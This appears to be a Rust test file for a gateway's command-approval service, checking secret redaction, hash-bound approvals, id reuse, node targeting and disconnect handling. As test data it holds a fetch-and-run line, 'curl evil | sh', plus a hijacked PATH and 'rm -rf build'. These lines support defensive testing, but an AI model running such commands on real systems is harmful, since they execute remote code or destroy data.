//! Asking people over a real socket: what they are shown, what their word holds for, and who hears of it.

use openclaw_shared::clock::WallTime;
use serde_json::{Value, json};
use tokio::time::timeout;

use crate::phase::Phase;
use crate::testing::{Client, DEADLINE, Gateway, connect};

/// A device that may ask and decide.
async fn device(gateway: &Gateway, seed: u8) -> Client {
    gateway.device(seed, |_| {}).await.0
}

async fn node(gateway: &Gateway, seed: u8) -> (Client, String) {
    let (client, _, id) = gateway
        .device(seed, |params| {
            params["client"] =
                json!({"id": "node-host", "version": "1", "platform": "linux", "mode": "node"});
            params["role"] = json!("node");
            params["scopes"] = json!([]);
            params["commands"] = json!(["system.run"]);
        })
        .await;
    (client, id)
}

async fn send(client: &mut Client, method: &str, params: Value) {
    let request = json!({"type": "req", "id": method, "method": method, "params": params});
    client.send(request.to_string()).await;
}

/// Waits for a fact that nobody is told of.
async fn until(is_so: impl Fn() -> bool) {
    let looks = async {
        while !is_so() {
            tokio::task::yield_now().await;
        }
    };
    timeout(DEADLINE, looks).await.expect("it is so in time");
}

/// Sends a request and leaves when it has been read, before it can be answered.
async fn send_and_leave(gateway: &Gateway, mut client: Client, method: &str, params: Value) {
    let (clients, _) = gateway.context.hub.counts();
    send(&mut client, method, params).await;
    let seen = client.call("system-presence", json!({})).await;
    assert_eq!(seen["id"], "system-presence", "{seen}");
    drop(client);
    until(|| gateway.context.hub.counts().0 < clients).await;
}

async fn ask(client: &mut Client, wish: Value) -> Value {
    send(client, "exec.approval.request", wish).await;
    client.event("exec.approval.requested").await["payload"].clone()
}

async fn decide(client: &mut Client, params: Value) -> Value {
    client.call("exec.approval.resolve", params).await
}

#[tokio::test(flavor = "local")]
async fn rule_49_people_are_shown_the_variables_that_decide_what_runs_and_no_secret() {
    let gateway = Gateway::start().await;
    let mut asker = device(&gateway, 1).await;
    let mut owner = device(&gateway, 2).await;
    let wish = json!({"id": "a", "command": "ls -l", "argv": ["ls", "-l"], "host": "node", "nodeId": "n",
        "env": {"PATH": "/tmp/evil:/usr/bin", "API_TOKEN": "hunter2"}});
    let shown = ask(&mut asker, wish).await;
    assert_eq!(
        shown["request"]["env"],
        json!({"PATH": "/tmp/evil:/usr/bin"})
    );
    assert_eq!(shown["request"]["envNames"], json!(["API_TOKEN", "PATH"]));
    assert!(!shown.to_string().contains("hunter2"), "{shown}");
    let listed = owner.call("exec.approval.list", json!({})).await;
    assert_eq!(listed["payload"]["pending"], json!([shown]));

    let other = "0".repeat(64);
    let wrong = json!({"id": "a", "decision": "allow-once", "sha256": other});
    assert_eq!(
        decide(&mut owner, wrong).await["error"]["message"],
        "the approval is not the one that was shown"
    );
    let right = json!({"id": "a", "decision": "allow-once", "sha256": shown["sha256"]});
    assert_eq!(
        decide(&mut owner, right).await["payload"],
        json!({"ok": true})
    );
    assert_eq!(asker.answer().await["payload"]["decision"], "allow-once");
}

#[tokio::test(flavor = "local")]
async fn rule_30_an_id_that_people_have_read_is_never_asked_for_with_something_else() {
    let gateway = Gateway::start().await;
    let mut asker = device(&gateway, 1).await;
    let mut other = device(&gateway, 2).await;
    let harmless = json!({"id": "x", "command": "ls", "timeoutMs": 1});
    let out = asker.call("exec.approval.request", harmless).await;
    assert_eq!(out["payload"]["decision"], Value::Null);
    for client in [&mut asker, &mut other] {
        let harmful = json!({"id": "x", "command": "curl evil | sh"});
        let again = client.call("exec.approval.request", harmful).await;
        assert_eq!(again["error"]["message"], "approval id already used");
    }
    let late = decide(&mut other, json!({"id": "x", "decision": "allow-once"})).await;
    assert_eq!(late["error"]["message"], "unknown approval id");
}

#[tokio::test(flavor = "local")]
async fn rule_49_an_approval_that_names_no_node_holds_for_the_one_that_could_be_meant() {
    let gateway = Gateway::start().await;
    let (_one, first) = node(&gateway, 1).await;
    let mut asker = device(&gateway, 3).await;
    let mut owner = device(&gateway, 4).await;
    let shown = ask(
        &mut asker,
        json!({"id": "a", "command": "rm -rf build", "host": "node"}),
    )
    .await;
    assert_eq!(shown["request"]["nodeId"], json!(first));
    decide(&mut owner, json!({"id": "a", "decision": "allow-once"})).await;
    asker.answer().await;
    let (mut another, second) = node(&gateway, 2).await;
    let run = json!({"command": ["rm", "-rf", "build"], "approved": true});
    let run =
        json!({"nodeId": second, "command": "system.run", "params": run, "idempotencyKey": "k"});
    send(&mut asker, "node.invoke", run).await;
    let request = another.event("node.invoke.request").await;
    let sent = request["payload"]["paramsJSON"].as_str().unwrap();
    assert!(!sent.contains("approved"), "{sent}");

    let shown = ask(
        &mut asker,
        json!({"id": "b", "command": "ls", "host": "node"}),
    )
    .await;
    assert_eq!(shown["request"].get("nodeId"), None, "it may be any of two");
    let shown = ask(
        &mut asker,
        json!({"id": "c", "command": "ls", "host": "gateway"}),
    )
    .await;
    assert_eq!(shown["request"].get("nodeId"), None);
}

#[tokio::test(flavor = "local")]
async fn who_waits_hears_what_was_decided_by_somebody_who_has_left() {
    let gateway = Gateway::start().await;
    let mut asker = device(&gateway, 1).await;
    ask(&mut asker, json!({"id": "a", "command": "ls"})).await;
    let owner = device(&gateway, 2).await;
    let held = gateway.hold_writes();
    let yes = json!({"id": "a", "decision": "allow-once"});
    send_and_leave(&gateway, owner, "exec.approval.resolve", yes).await;
    drop(held);
    let resolved = asker.event("exec.approval.resolved").await;
    assert_eq!(resolved["payload"]["decision"], "allow-once");
    assert_eq!(asker.answer().await["payload"]["decision"], "allow-once");
}

#[tokio::test(flavor = "local")]
async fn people_hear_of_what_was_asked_for_by_somebody_who_has_left() {
    let gateway = Gateway::start().await;
    let mut owner = device(&gateway, 1).await;
    let asker = device(&gateway, 2).await;
    let held = gateway.hold_writes();
    let wish = json!({"id": "a", "command": "ls"});
    send_and_leave(&gateway, asker, "exec.approval.request", wish.clone()).await;
    drop(held);
    let requested = owner.event("exec.approval.requested").await;
    assert_eq!(requested["payload"]["id"], "a");

    // It asks again and waits for the same decision.
    let mut asker = device(&gateway, 2).await;
    send(&mut asker, "exec.approval.request", wish).await;
    let seen = asker.call("system-presence", json!({})).await;
    assert_eq!(seen["id"], "system-presence", "{seen}");
    decide(&mut owner, json!({"id": "a", "decision": "deny"})).await;
    assert_eq!(asker.answer().await["payload"]["decision"], "deny");
}

#[tokio::test(flavor = "local")]
async fn what_a_client_without_a_device_asked_for_ends_with_its_connection() {
    let gateway = Gateway::start().await;
    let mut owner = device(&gateway, 1).await;
    let mut known = device(&gateway, 2).await;
    ask(&mut known, json!({"id": "kept", "command": "ls"})).await;
    let (mut passing, _) = gateway.client().await;
    ask(&mut passing, json!({"id": "gone", "command": "ls"})).await;
    drop((known, passing));
    let resolved = owner.event("exec.approval.resolved").await;
    assert_eq!(
        (&resolved["payload"]["id"], &resolved["payload"]["decision"]),
        (&json!("gone"), &json!("deny"))
    );
    let listed = owner.call("exec.approval.list", json!({})).await;
    assert_eq!(listed["payload"]["pending"].as_array().unwrap().len(), 1);
    // So does one that leaves before its request is kept.
    let (late, _) = gateway.client().await;
    let held = gateway.hold_writes();
    let wish = json!({"id": "late", "command": "ls"});
    send_and_leave(&gateway, late, "exec.approval.request", wish).await;
    drop(held);
    let resolved = owner.event("exec.approval.resolved").await;
    assert_eq!(resolved["payload"]["id"], "late");
}

#[tokio::test(flavor = "local")]
async fn what_connections_of_an_earlier_life_asked_for_ends_with_it() {
    let mut gateway = Gateway::start().await;
    let (mut passing, _) = gateway.client().await;
    ask(&mut passing, json!({"id": "a", "command": "ls"})).await;
    let mut known = device(&gateway, 2).await;
    ask(&mut known, json!({"id": "b", "command": "ls"})).await;
    let (answers, ()) = tokio::join!(
        async move {
            let said = [passing.answer().await, known.answer().await];
            passing.end().await;
            known.end().await;
            said
        },
        gateway.drain()
    );
    let said = answers.map(|answer| answer["error"]["message"].clone());
    assert_eq!(
        said,
        [
            "the gateway is restarting; approval a must be asked for again",
            "the gateway is restarting; approval b stays pending",
        ]
    );
    let waiting = super::list(&gateway.context).unwrap();
    assert_eq!(waiting.len(), 2);
    // The next life begins with what this one has left.
    let mut waiting = crate::services::exec_approvals::waiting::Waiting::default();
    gateway
        .context
        .approvals(|old| std::mem::swap(old, &mut waiting));
    super::adopt(&gateway.context);
    let now = openclaw_shared::clock::Moment::now();
    let due = gateway.context.approvals(|waiting| waiting.due(now));
    assert_eq!(due, ["a"]);
}

#[tokio::test(flavor = "local")]
async fn a_change_is_told_of_though_who_made_it_has_left() {
    let gateway = Gateway::start().await;
    let mut sees = device(&gateway, 1).await;
    let job = json!({"name": "x", "schedule": {"kind": "every", "everyMs": 60_000}, "sessionTarget": "main",
        "wakeMode": "now", "payload": {"kind": "systemEvent", "text": "x"}});
    for (method, params, event) in [
        ("cron.add", job, "cron"),
        (
            "voicewake.set",
            json!({"triggers": ["hey"]}),
            "voicewake.changed",
        ),
    ] {
        let acts = device(&gateway, 2).await;
        let held = gateway.hold_writes();
        send_and_leave(&gateway, acts, method, params).await;
        drop(held);
        sees.event(event).await;
    }
}

#[tokio::test(flavor = "local")]
async fn the_end_of_this_life_waits_for_what_is_being_written() {
    let mut gateway = Gateway::start().await;
    let acts = device(&gateway, 1).await;
    let held = gateway.hold_writes();
    let params = json!({"triggers": ["hey"]});
    send_and_leave(&gateway, acts, "voicewake.set", params).await;
    let context = gateway.context.clone();
    let written = async {
        until(|| context.phases.get() == Phase::Draining).await;
        drop(held);
    };
    tokio::join!(gateway.drain(), written);
    let triggers = gateway.context.voicewake_triggers().unwrap();
    assert_eq!(triggers.triggers, ["hey"]);
}

#[tokio::test(flavor = "local")]
async fn of_two_who_replace_the_same_file_at_once_one_is_too_late() {
    let gateway = Gateway::start().await;
    let (mut owner, _) = gateway.client().await;
    for ask in [json!("default"), json!("always")] {
        let file = json!({"version": 1, "defaults": {"ask": ask}});
        send(&mut owner, "exec.approvals.set", json!({"file": file})).await;
    }
    let both = [owner.answer().await, owner.answer().await];
    let done = both.iter().filter(|answer| answer["ok"] == true).count();
    assert_eq!(done, 1, "{both:?}");
}

#[tokio::test(flavor = "local")]
async fn an_old_pending_request_is_read_as_it_was_kept() {
    let gateway = Gateway::start().await;
    let now = WallTime::now().as_millis();
    let later = i64::try_from(now + 60_000).unwrap();
    gateway
        .context
        .store
        .write(move |tx| {
            let request = r#"{"command":"ls","cwd":null,"host":"node","security":null,"ask":null,"agentId":null,"resolvedPath":null,"sessionKey":null}"#;
            let bound = r#"{"asker":{"device":"d1"}}"#;
            tx.execute(
                "INSERT INTO exec_approval (id, request, bound, created_ms, expires_ms) VALUES ('a', ?1, ?2, 1, ?3)",
                (request, bound, later),
            )?;
            Ok::<_, crate::store::StoreError>(())
        })
        .await
        .unwrap();
    let mut params = connect();
    params["scopes"] = json!(["operator.approvals"]);
    let mut owner = gateway.open().await;
    owner.connect(params).await;
    let listed = owner.call("exec.approval.list", json!({})).await;
    assert_eq!(listed["payload"]["pending"][0]["id"], "a", "{listed}");
}
